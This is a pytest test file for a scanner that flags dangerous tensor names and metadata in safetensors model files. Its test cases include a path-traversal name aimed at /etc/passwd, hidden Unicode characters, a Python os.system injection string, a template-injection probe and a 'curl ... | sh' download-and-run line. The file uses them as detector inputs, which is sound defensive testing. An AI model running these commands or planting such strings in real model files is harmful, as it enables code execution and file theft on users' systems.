import pytest
from tensor_folders import loud, quiet

from qaudit.static.tensors import name_rules
from qaudit.static.tensors.name_rules import BOOK
from qaudit.static.tensors.safetensors_walk import SafetensorsWalk, StoredTensor


def named(*names: str) -> SafetensorsWalk:
    return SafetensorsWalk("m", 8, tensors=[StoredTensor(name, "U8", (0,), 0, 0) for name in names])


def noted(**metadata: str) -> SafetensorsWalk:
    return SafetensorsWalk("m", 8, metadata=list(metadata.items()))


@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("../../etc/passwd", "name-path"), ("a/../b", "name-path"), ("/abs", "name-path"), ("C:\\x", "name-path"),
        ("a\0b", "name-hidden"), ("a\u200bb", "name-hidden"), ("a\u202eb", "name-hidden"), ("", "name-hidden"),
        ("x" * 5000, "name-long"),
    ],
)  # fmt: skip
def test_names(name: str, rule: str) -> None:
    assert f"safetensors-text/{rule}" in loud(BOOK.findings(named("model.layers.0.weight", name)))


def test_ordinary_names() -> None:
    names = (
        "model.layers.0.self_attn.q_proj.weight",
        "encoder/block_0/kernel:0",
        "unet.1..2",
        "größe",
        "a b",
    )
    assert BOOK.findings(named(*names)) == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("__import__('os').system('id')", "metadata-code"),
        ("{{ ''.__class__.__mro__ }} x.__globals__", "metadata-code"),
        ("curl http://x.y/z | sh", "metadata-code"),
        ("\x1b[2Jhello", "metadata-hidden"),
        ("safe\u202etxt", "metadata-hidden"),
    ],
)
def test_metadata(text: str, rule: str) -> None:
    assert loud(BOOK.findings(noted(note=text)))[f"safetensors-text/{rule}"] == "medium"


def test_ordinary_metadata() -> None:
    walk = noted(
        format="pt",
        ss_tag_frequency='{"set": {"a photo, smiling": 12}}',
        ss_network_args='{"conv_dim": "8", "algo": "locon"}',
        note="This model can execute (in theory) a curl. See our evaluation (table 2).",
    )
    assert BOOK.findings(walk) == []
    assert quiet(BOOK.findings(noted(url="see https://example.org/x"))) == {"safetensors-text/metadata-link"}


def test_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(name_rules, "MOST_METADATA", 100)
    assert loud(BOOK.findings(noted(a="x" * 200))) == {"safetensors-text/metadata-size": "low"}
